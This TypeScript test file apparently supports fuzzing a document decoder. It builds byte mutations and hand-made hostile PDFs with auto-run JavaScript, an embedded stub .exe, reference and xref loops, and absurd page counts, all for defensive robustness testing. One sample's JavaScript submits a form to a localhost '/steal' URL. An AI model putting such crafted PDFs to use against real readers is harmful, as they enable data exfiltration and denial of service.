/**
 * Hostile files for decoder fuzzing: byte mutations of real files (truncations, flipped bytes,
 * header fields that lie) and hand-made PDFs that carry JavaScript, embedded files, reference
 * loops, or claim absurd page counts and sizes.
 */
import fc from 'fast-check';

export type Mutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'flip'; offsets: number[]; xor: number }
  | { kind: 'field'; offset: number; value: number }
  | { kind: 'append'; junk: Uint8Array };

/** Mutations of a file of `size` bytes; header fields and flips favour the first 1 KiB, where the lies hurt. */
export function mutations(size: number): fc.Arbitrary<Mutation> {
  const header = Math.min(size, 1024);
  return fc.oneof(
    fc.integer({ min: 0, max: size - 1 }).map((at) => ({ kind: 'truncate' as const, at })),
    fc
      .record({ offsets: fc.array(fc.integer({ min: 0, max: header - 1 }), { minLength: 1, maxLength: 8 }), xor: fc.integer({ min: 1, max: 255 }) })
      .map((m) => ({ kind: 'flip' as const, ...m })),
    fc
      .record({ offset: fc.integer({ min: 0, max: Math.max(0, Math.min(size, 128) - 4) }), value: fc.constantFrom(0, 1, 0x7fffffff, 0xffffffff, 0x10000, 65_535) })
      .map((m) => ({ kind: 'field' as const, ...m })),
    fc.uint8Array({ minLength: 1, maxLength: 64 }).map((junk) => ({ kind: 'append' as const, junk })),
  );
}

export function applyMutation(bytes: Buffer, mutation: Mutation): Buffer {
  switch (mutation.kind) {
    case 'truncate':
      return bytes.subarray(0, mutation.at);
    case 'flip': {
      const copy = Buffer.from(bytes);
      for (const offset of mutation.offsets) copy[offset] = copy[offset]! ^ mutation.xor;
      return copy;
    }
    case 'field': {
      const copy = Buffer.from(bytes);
      copy.writeUInt32LE(mutation.value >>> 0, mutation.offset);
      return copy;
    }
    case 'append':
      return Buffer.concat([bytes, mutation.junk]);
  }
}

/** A PDF of `objects` (numbered from 1, the first the catalog), with a correct xref table. */
export function pdf(objects: string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** Each answers 200 with nothing run or extracted, or a 4xx naming the file. */
export const HOSTILE_PDFS: Record<string, Buffer> = {
  javascript: pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    PAGE,
    "<< /S /JavaScript /JS (app.alert('x'); this.submitForm('http://127.0.0.1:9/steal');) >>",
  ]),
  'embedded-file': pdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    PAGE,
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream',
  ]),
  'huge-page-count': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>', PAGE]),
  'huge-page-size': pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 >>',
  ]),
  'page-tree-loop': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>']),
  'reference-loop': pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox 4 0 R >>', '5 0 R', '4 0 R']),
  'xref-prev-loop': xrefPointingAtItself(pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE])),
};

/** The PDF with its trailer's /Prev naming its own xref table: a reader that follows /Prev blindly never stops. */
function xrefPointingAtItself(file: Buffer): Buffer {
  const text = file.toString('latin1');
  const xref = /startxref\n(\d+)/.exec(text)![1]!;
  return Buffer.from(text.replace('/Root 1 0 R >>', `/Root 1 0 R /Prev ${xref} >>`), 'latin1');
}
